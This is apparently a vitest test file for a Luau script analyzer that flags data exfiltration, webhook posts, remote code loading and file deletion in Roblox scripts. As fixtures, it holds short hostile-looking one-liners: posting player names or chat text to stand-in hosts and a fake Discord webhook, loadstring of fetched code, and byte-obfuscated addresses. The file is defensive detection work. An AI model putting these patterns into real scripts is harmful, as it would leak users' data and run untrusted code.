// Nothing is dropped silently: what a script does is found, or the card says that something could not be followed.
import { describe, expect, test } from 'vitest'
import { analyze, type CapabilityId, mergeRun } from '../src/index.ts'
import { describeRuns } from '../src/sandbox/events.ts'
import { UNRESOLVED } from '../src/unresolved.ts'
import { generateScripts } from './generated-scripts.ts'

const SEED = 20_261
const SCRIPTS = 3500
const WEBHOOK = `https://discord.com/api/webhooks/987654321098765432/${'zyxwvuts'.repeat(8)}`

const idsOf = (code: string): CapabilityId[] => analyze(code).capabilities.map(({ id }) => id)
const reasonsOf = (code: string): string[] => analyze(code).opaque.map(({ reason }) => reason)
const hostsOf = (code: string): string[] =>
  analyze(code)
    .hosts.map(({ host }) => host)
    .toSorted()

describe(`of ${SCRIPTS} generated scripts`, () => {
  const scripts = generateScripts(SCRIPTS, SEED)

  test('each is found, or something in it could not be followed', () => {
    let found = 0
    const silent = scripts.filter(({ code, does }) => {
      const { capabilities, opaque } = analyze(code)
      const isFound = does.every((id) => capabilities.some((finding) => finding.id === id))
      if (isFound) found++
      return !isFound && opaque.length === 0
    })
    console.log(`${scripts.length} scripts: ${((found / scripts.length) * 100).toFixed(1)} % found, the others opaque`)
    expect(new Set(scripts.map(({ code }) => code)).size).toBe(SCRIPTS)
    expect(silent).toEqual([])
    expect(found / scripts.length).toBeGreaterThan(0.65)
  }, 120_000)

  test('each is read as Luau', () => {
    const broken = scripts.filter(({ code }) => reasonsOf(code).some((reason) => reason.includes('word by word')))
    expect(broken).toEqual([])
  }, 120_000)
})

const NAME = 'game:GetService("Players").LocalPlayer.DisplayName'
const post = (callee: string, body = NAME) =>
  `${callee}({Url = "https://b.example/in", Method = "POST", Body = ${body}})`

describe('a function is followed', () => {
  test.each<[string, string, CapabilityId[]]>([
    [
      'or-ed with another',
      `local go = workspace:FindFirstChild("x") and warn or appendfile go("a", "b")`,
      ['fs.write'],
    ],
    [
      'and-ed in the middle',
      `local go = os.time() > 1 and print or os.time() > 2 and delfile or warn go("a")`,
      ['fs.delete'],
    ],
    [
      'task.defer',
      `if game.GameId == 5 then task.defer(http_request, {Url = "${WEBHOOK}", Method = "POST", Body = ${NAME}}) end`,
      ['net.send', 'net.webhook', 'net.exfiltration'],
    ],
    [
      'task.spawn of loadstring',
      'if game.GameId == 5 then task.spawn(loadstring, game:HttpGet("https://b.example")) end',
      ['code.remote'],
    ],
    ['a delay', 'if game.GameId == 5 then delay(2, function() makefolder("x") end) end', ['fs.write']],
    [
      'coroutine.resume',
      `coroutine.resume(coroutine.create(request), {Url = "https://b.example", Body = ${NAME}})`,
      ['net.exfiltration'],
    ],
    ['an event', `workspace.ChildAdded:Once(delfile)`, ['fs.delete']],
    [
      'an event of a chat',
      `x.OnMessageDoneFiltering.OnClientEvent:Connect(function(m) ${post('request', 'm.FromSpeaker')} end)`,
      ['net.exfiltration'],
    ],
    [
      'a message of the text chat',
      `game.TextChatService.MessageReceived:Connect(function(m) ${post('request', 'm.TextSource.Name')} end)`,
      ['net.exfiltration'],
    ],
    [
      'the full name of a part',
      `game:HttpGet("https://b.example/?" .. game.Players.LocalPlayer.PlayerGui:GetFullName())`,
      ['net.exfiltration'],
    ],
    [
      'the parent of a part',
      `game:HttpGet("https://b.example/?" .. game.Players.LocalPlayer.Character.Torso.Parent.Name)`,
      ['net.exfiltration'],
    ],
  ])('through %s', (_, code, ids) => {
    expect(idsOf(code)).toEqual(expect.arrayContaining(ids))
  })

  test.each<[string, string, CapabilityId]>([
    [
      'leaves a loop',
      `local f for _, g in {print, request, warn} do f = g if os.time() > 9 then break end end ${post('f')}`,
      'net.exfiltration',
    ],
    [
      'leaves a function',
      `local f = print local function set() f = request if os.time() > 9 then return end f = warn end set() ${post('f')}`,
      'net.exfiltration',
    ],
    ['is in the clipboard', `setclipboard(${NAME}) ${post('request', 'getclipboard()')}`, 'net.exfiltration'],
    ['is a cookie', `request({Url = "https://b.example", Cookies = {a = ${NAME}}})`, 'net.exfiltration'],
    [
      'is a key',
      `local t = {} t[${NAME}] = 1 ${post('request', 'game.HttpService:JSONEncode(t)')}`,
      'net.exfiltration',
    ],
    [
      'swaps places',
      `local a, b = print, request for i = 1, game.PlaceId do a, b = b, a end ${post('a')}`,
      'net.exfiltration',
    ],
  ])('that or whose data %s', (_, code, id) => {
    expect(idsOf(code)).toContain(id)
  })

  test('and downloads in a loop are not text that is put together', () => {
    const code =
      'local page = 0 repeat page = page + 1 loadstring(game:HttpGet("https://b.example/p" .. page))() until false'
    expect(idsOf(code)).toEqual(['net.get', 'code.remote'])
  })
})

describe('a card says', () => {
  test.each([
    [UNRESOLVED.function, 'local name = workspace.Name game[name](game, "https://b.example")'],
    [UNRESOLVED.function, 'getfenv()[workspace.Name]("x")'],
    [UNRESOLVED.function, 'local list = {} list[workspace.Name] = request for _, f in getreg() do f() end'],
    [UNRESOLVED.loop, 'local k = 1 for i = 1, 400000 do k = k * 3 % 7919 end'],
    [UNRESOLVED.address, 'game:HttpGet(workspace.Address.Value)'],
    [
      UNRESOLVED.data,
      `local key = workspace.Name request({Url = "https://b.example", Body = game.Players.LocalPlayer[key]})`,
    ],
    [UNRESOLVED.handed, 'require(script.Library)(request)'],
    [UNRESOLVED.handed, 'local f = print debug.setupvalue(function() f() end, 1, request)'],
    [UNRESOLVED.function, 'table.foreach(getgenv(), function(_, f) f(1) end)'],
    [UNRESOLVED.function, 'local s = WebSocket.connect("wss://b.example") s[workspace.Name](s, "x")'],
    [UNRESOLVED.depth, 'local function f(n) return n == 0 and 0 or f(n - 1) end f(900)'],
    [UNRESOLVED.code, 'loadstring("this is = not code")()'],
  ])('%s', (reason, code) => {
    expect(reasonsOf(code)).toContain(reason)
  })

  test.each([
    ['a callback', 'return function(callback) callback() end'],
    ['a field', 'local M = {} function M:run() self.handler() self:other() end return M'],
    [
      'a list of listeners',
      'local M = {listeners = {}} function M.fire() for _, f in M.listeners do f() end end return M',
    ],
    [
      'a required module',
      'local Signal = require(script.Parent.Signal) local s = Signal.new() s:Connect(print) s.fire(1)',
    ],
    ['a table of handlers', 'local on = {a = function() end, b = function() end} return function(k) on[k](k) end'],
    ['a method by name', 'return function(object, name) object[name](object) end'],
    ['a loop that waits', 'local n = 0 while task.wait(1) do n += 1 print("tick " .. n) end'],
    [
      'classes',
      'local A = {} A.__index = A function A.new(o) return setmetatable(o or {}, A) end function A:go(f) return f(self) end return A',
    ],
  ])('nothing of %s', (_, code) => {
    expect(reasonsOf(code)).toEqual([])
  })
})

describe('hosts', () => {
  const host = Buffer.from('https://one.example.org/x').join()

  test('of all alternatives are found', () => {
    const code = `local u = "https://" .. (os.time() > 1 and "a.example" or os.time() > 2 and "b.example" or "c.example") .. "/x"
      game:HttpGet(u)`
    expect(hostsOf(code)).toEqual(['a.example', 'b.example', 'c.example'])
  })

  test.each([
    ['appended', `local s = "" for _, b in {${host}} do s = s .. string.char(b) end game:HttpGet(s)`],
    [
      'put in front',
      `local s = "" for _, b in {${host.split(',').toReversed().join()}} do s = string.char(b) .. s end game:HttpGet(s)`,
    ],
    ['interpolated', `local s = "" for _, b in {${host}} do s = \`{s}{string.char(b)}\` end game:HttpGet(s)`],
  ])('of an address whose bytes are %s are one', (_, code) => {
    expect(hostsOf(code)).toEqual(['one.example.org'])
  })

  test('are contacted or only named', () => {
    const code = `request({Url = "https://a.example/x", Headers = {Origin = "https://b.example"}})
      image.Image = "https://c.example/d.png" WebSocket.connect("wss://d.example")`
    expect(analyze(code).hosts).toEqual([
      { host: 'a.example', line: 1, contacted: true },
      { host: 'b.example', line: 1, contacted: false },
      { host: 'd.example', line: 2, contacted: true },
      { host: 'c.example', line: 2, contacted: false },
    ])
  })

  test('that are contacted are listed before 100 that are named', () => {
    const named = Array.from({ length: 150 }, (_, index) => `print("https://h${index}.example/")`).join('\n')
    const { hosts } = analyze(`${named}\ngame:HttpGet("https://z.example/")`)
    expect(hosts).toHaveLength(100)
    expect(hosts.filter(({ contacted }) => contacted)).toEqual([{ host: 'z.example', line: 151, contacted: true }])
  })

  test('that a run contacts are contacted on the card, and prefixes of its texts are no hosts', () => {
    const code = 'local u = "https://a.example"\nf(u)'
    const texts = ['https://raw.e', 'https://raw.exam', 'https://raw.example.com/a']
    const run = describeRuns(code, {
      events: [
        ...texts.map((text) => ['text', '2', text]),
        ['net.get', '2', 'game:HttpGet', 'https://a.example', '', ''],
      ],
      outcome: 'time',
      compileError: null,
    })
    const { hosts, opaque } = mergeRun(analyze(code), run)
    expect(hosts).toEqual([
      { host: 'a.example', line: 1, contacted: true },
      { host: 'raw.example.com', line: 2, contacted: false },
    ])
    expect(opaque).toEqual(run.opaque)
  })
})
